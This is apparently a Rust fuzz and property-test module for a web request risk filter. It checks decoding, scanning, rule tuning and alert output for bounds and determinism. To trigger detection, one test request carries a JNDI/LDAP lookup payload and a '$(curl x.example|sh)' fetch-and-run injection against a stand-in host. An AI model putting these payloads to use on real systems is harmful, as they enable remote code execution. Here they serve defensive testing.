//! What holds for all bytes that a client may send? The fuzz targets and the tests check the same.

use user_risk_filter::clock::Timestamp;
use user_risk_filter::config;
use user_risk_filter::decode::{ROUNDS, Views};
use user_risk_filter::detect::category::Category;
use user_risk_filter::detect::detection::{Detection, VALUE};
use user_risk_filter::detect::detections::DETECTIONS;
use user_risk_filter::detect::matcher::{Evidence, Verifier};
use user_risk_filter::detect::options::Options;
use user_risk_filter::detect::rule_set::RuleSet;
use user_risk_filter::detect::scan::Scan;
use user_risk_filter::detect::verify;
use user_risk_filter::detect::verify::subject::{Effort, Subject};
use user_risk_filter::engine::stream::{Mark, Part, Stream};
use user_risk_filter::engine::{Engine, Input};
use user_risk_filter::exchange::head::Head;
use user_risk_filter::exchange::headers::Headers;
use user_risk_filter::exchange::proxy::Known;
use user_risk_filter::notify::callout::Reply;
use user_risk_filter::plugin::config::Config;
use user_risk_filter::read::field::Field;
use user_risk_filter::read::target::Target;
use user_risk_filter::read::{self, Body};
use user_risk_filter::secret::{Secret, Variable};
use user_risk_filter::state::memory::Memory;
use user_risk_filter::worker::effect::Effect;

/// So much of a body is taken apart here, in bytes: less than by default, so that what lies beyond is met.
const BODY_LIMIT: usize = 16 * 1024;

thread_local! {
    static RULES: RuleSet = RuleSet::builtin();
}

/// Views are bounded by the value, and are the same again with buffers that have been used.
pub(crate) fn decode(value: &[u8]) {
    let (mut fresh, mut used) = (Views::default(), Views::default());
    used.of(b"%2527&lt;\\x41\xc0\xaf/..;/", true, true);
    for (plus_is_blank, is_path) in [(false, false), (true, false), (false, true)] {
        fresh.of(value, plus_is_blank, is_path);
        used.of(value, plus_is_blank, is_path);
        assert!(fresh.rounds <= ROUNDS);
        for (view, again) in
            [(&fresh.plain, &used.plain), (&fresh.low, &used.low), (&fresh.deep, &used.deep), (&fresh.path, &used.path)]
        {
            assert!(view.len() <= 4 * value.len() + 64, "{} bytes become {}", value.len(), view.len());
            assert_eq!(view, again);
        }
    }
}

/// Every verifier ends, and says the same again.
pub(crate) fn verify(value: &[u8]) {
    let view = value.to_ascii_lowercase();
    for (verifier, target) in Verifier::ALL.iter().zip(Target::ALL.iter().cycle().skip(value.len())) {
        let seen = |target: Target| {
            let mut seen: Vec<Evidence> = Vec::new();
            let effort = &Effort::default();
            let subject = Subject::new(&view, target, b"q", effort);
            verify::run(*verifier, &subject, &mut |evidence| seen.push(evidence));
            assert!(effort.unread() <= view.len(), "{verifier:?} leaves more than there is");
            seen
        };
        assert_eq!(seen(*target), seen(*target));
        assert!(seen(*target).len() <= 16 * view.len() + 64, "{verifier:?} repeats itself");
    }
}

/// A line with the content type, and behind a bar the coding, then the body: what is shown is bounded, and chunks make no
/// difference.
pub(crate) fn body(data: &[u8]) {
    let (kind, bytes) = first_line(data);
    let mut kinds = kind.splitn(2, |byte| *byte == b'|');
    let (kind, coding) = (kinds.next().unwrap_or_default(), kinds.next().unwrap_or_default());
    let head = Head::new([(&b"content-type"[..], kind), (b"content-encoding", coding)].into_iter().collect());
    let show = |chunk: usize| {
        let mut shown: Vec<(Target, Vec<u8>, Vec<u8>)> = Vec::new();
        let mut sink = |field: Field<'_>| shown.push((field.target, field.name.to_vec(), field.value.to_vec()));
        let mut body = Body::new(&head, BODY_LIMIT);
        bytes.chunks(chunk.max(1)).for_each(|chunk| body.push(chunk, &mut sink));
        body.finish(&mut sink);
        // Of a body in several codings each may leave something.
        assert!(body.skipped() <= (bytes.len() + 5 * BODY_LIMIT) as u64);
        shown
    };
    let whole = show(usize::MAX);
    let size: usize = whole.iter().map(|(_, name, value)| name.len() + value.len()).sum();
    assert!(size <= 300 * bytes.len() + (1 << 20), "{} bytes show {size}", bytes.len());
    for chunk in [1, 7, 4096] {
        assert_eq!(whole, show(chunk), "in chunks of {chunk}");
    }
}

/// A request line, headers, an empty line and a body: scanned within bounds, with the same answer again.
pub(crate) fn scan(data: &[u8]) {
    RULES.with(|rules| {
        let found = detections(rules, data);
        assert!(found.len() <= DETECTIONS);
        for one in &found {
            // A longer value is cut, and a hash of all of it follows.
            assert!(one.value.len() <= VALUE + 8 && one.target.len() <= 400 && one.target.is_ascii());
            assert!(!one.target.bytes().any(|byte| byte.is_ascii_control()), "{}", one.target);
        }
        assert_eq!(found, detections(rules, data));
        assert_eq!(found, in_chunks(rules, data, 7));
    });
}

/// A pattern of an own rule and the name of a parameter on the first two lines, then a request as for [`scan`]: the pattern
/// takes no detection away, and an exclusion takes away what it names only.
pub(crate) fn tune(data: &[u8]) {
    let (pattern, rest) = first_line(data);
    let (name, request) = first_line(rest);
    let [pattern, name] = [pattern, name].map(|text| String::from_utf8_lossy(text).into_owned());
    let kind = ["literal", "word", "prefix", "suffix", "whole"].get(data.len() % 5).copied().unwrap_or("literal");
    let own = serde_json::json!([{"id": "own.it", "category": "test", "severity": "low", kind: [pattern]}]);
    let exclude = serde_json::json!([{"category": "sqli", "parameter": name}]);
    let tuned = |options: serde_json::Value| {
        let options: Options = config::from_json(&options.to_string()).ok()?;
        options.check().is_ok().then(|| RuleSet::new(options))
    };
    RULES.with(|builtin| {
        let plain = detections(builtin, request);
        if plain.len() >= DETECTIONS {
            return;
        }
        if let Some(rules) = tuned(serde_json::json!({ "own": own })) {
            let found = detections(&rules, request);
            assert_eq!(found, detections(&rules, request));
            assert!(found.len() <= DETECTIONS);
            // Where the pattern stands the scan looks closer, so there may be more, never less.
            assert!(found.len() == DETECTIONS || plain.iter().all(|one| found.contains(one)));
        }
        if let Some(rules) = tuned(serde_json::json!({ "exclude": exclude })) {
            let found = detections(&rules, request);
            assert!(found.iter().all(|one| plain.iter().any(|known| known.rule == one.rule)));
            let others = |all: &[Detection]| -> Vec<_> {
                all.iter().filter(|one| rules.rule(one.rule).category != Category::Sqli).cloned().collect()
            };
            assert_eq!(others(&found), others(&plain));
        }
    });
}

/// Everybody is told, and the application may speak of everybody.
const TELLING: &str = r#"{
    "application": {"clusters": ["app"]},
    "user": {"anonymous": "address"},
    "risk": {"anonymous_threshold": 10},
    "notify": [
        {"webhook": {"cluster": "c", "url": "https://h.example/risk", "secret": "whsec_bGFiLW9ubHktbGFiLW9ubHktbGFiLW9ubHktbGFi"}},
        {"slack": {"cluster": "c", "url": "https://hooks.slack.com/services/T/B/x"}},
        {"pagerduty": {"cluster": "c", "routing_key": "0123456789abcdef0123456789abcdef"}},
        {"email": {"cluster": "c", "provider": "resend", "key": "k", "from": "risk@h.example", "to": ["team@h.example"]}}
    ]
}"#;
/// The most that is sent or logged at once, in bytes.
const TOLD: usize = 64 * 1024;

/// A user, an address, a route and the header by which an application tells of events on a line each, then a request as for
/// [`scan`]: whatever is sent and logged is JSON, bounded, and the same again.
pub(crate) fn tell(data: &[u8]) {
    let told = told(data);
    assert!(told.len() <= 64, "{} messages and lines", told.len());
    for text in &told {
        assert!(text.len() <= TOLD && serde_json::from_str::<serde_json::Value>(text).is_ok(), "{text}");
        assert!(!text.bytes().any(|byte| byte.is_ascii_control()), "{text:?}");
    }
    assert_eq!(told, self::told(data));
}

fn told(data: &[u8]) -> Vec<String> {
    let (user, rest) = first_line(data);
    let (address, rest) = first_line(rest);
    let (route, rest) = first_line(rest);
    let (events, rest) = first_line(rest);
    let config = Config::load(TELLING.as_bytes(), &|_| Variable::Set(Secret::new("k")));
    let cells = Memory::default();
    let engine = Engine::new(config.unwrap_or_else(|mistake| panic!("{mistake}")).config, &cells, [1; 32]);
    let now = Timestamp::from_millis(1_767_323_045_678);
    let answer: Headers = [(&b"x-user-risk-event"[..], events)].into_iter().collect();
    let proxy = Known::default().with_address(address).with_route(route).with_cluster("app").answering(200, answer);
    let mut effects = Vec::new();
    // Enough to open an incident, then what was made up.
    for data in [&b"GET /?a=${jndi:ldap://x.example/a}&b=$(curl+x.example|sh)"[..], rest] {
        let (mut head, body) = request(data);
        head.push((b"x-user-id", user));
        let mut stream = Stream::default();
        let mut on = |part| effects.extend(engine.on(Input::Stream(&mut stream, part), now));
        on(Part::Head(Head::new(head.into_iter().collect())));
        on(Part::Chunk(body));
        for mark in [Mark::Arrived, Mark::Complete, Mark::Answered, Mark::End] {
            on(Part::Mark(mark, &proxy));
        }
    }
    let mut told = Vec::new();
    for _ in 0..4 {
        effects.extend(engine.on(Input::Tick, now));
        for effect in std::mem::take(&mut effects) {
            match effect {
                Effect::Log(_, line) => told.push(line),
                Effect::Call { pending_callout, request, .. } => {
                    assert!(
                        request.headers.iter().all(|(_, value)| value.bytes().all(|byte| matches!(byte, b' '..=b'~')))
                    );
                    told.push(String::from_utf8_lossy(&request.body).into_owned());
                    let reply = Reply::Answer { status: 200, retry_after: None, body: Vec::new() };
                    effects.extend(engine.on(Input::Answered(pending_callout, reply), now));
                }
                _ => {}
            }
        }
    }
    told
}

/// What is detected in a request that is written as for [`scan`].
pub(crate) fn detections(rules: &RuleSet, data: &[u8]) -> Vec<Detection> {
    in_chunks(rules, data, usize::MAX)
}

fn in_chunks(rules: &RuleSet, data: &[u8], chunk: usize) -> Vec<Detection> {
    let (pairs, rest) = request(data);
    let head = Head::new(pairs.into_iter().collect());
    let mut scan = Scan::new();
    scan.begin(rules, &head);
    // All at once: the pieces make no difference then.
    scan.arrived(data.len());
    let mut sink = |field: Field<'_>| scan.push(rules, field);
    read::head(&head, &mut sink);
    let mut body = Body::new(&head, BODY_LIMIT);
    rest.chunks(chunk).for_each(|chunk| body.push(chunk, &mut sink));
    body.finish(&mut sink);
    // A constant, a share for each byte, and what the last field may owe.
    assert!(scan.work() <= 25_000_000 + 110 * data.len() as u64, "{} for {} bytes", scan.work(), data.len());
    scan.take()
}

type Pairs<'a> = Vec<(&'a [u8], &'a [u8])>;

/// The pairs of a head, and the body.
fn request(data: &[u8]) -> (Pairs<'_>, &[u8]) {
    let (line, mut rest) = first_line(data);
    let (method, target) = line
        .iter()
        .position(|byte| *byte == b' ')
        .map_or((line, &b""[..]), |at| (line.get(..at).unwrap_or_default(), line.get(at + 1..).unwrap_or_default()));
    let mut pairs = vec![(&b":method"[..], method), (b":path", target)];
    loop {
        let (header, after) = first_line(rest);
        rest = after;
        let Some(at) = header.iter().position(|byte| *byte == b':') else { break };
        pairs.push((header.get(..at).unwrap_or_default(), header.get(at + 1..).unwrap_or_default().trim_ascii()));
    }
    (pairs, rest)
}

fn first_line(data: &[u8]) -> (&[u8], &[u8]) {
    let end = data.iter().position(|byte| *byte == b'\n').unwrap_or(data.len());
    (data.get(..end).unwrap_or_default(), data.get(end + 1..).unwrap_or_default())
}
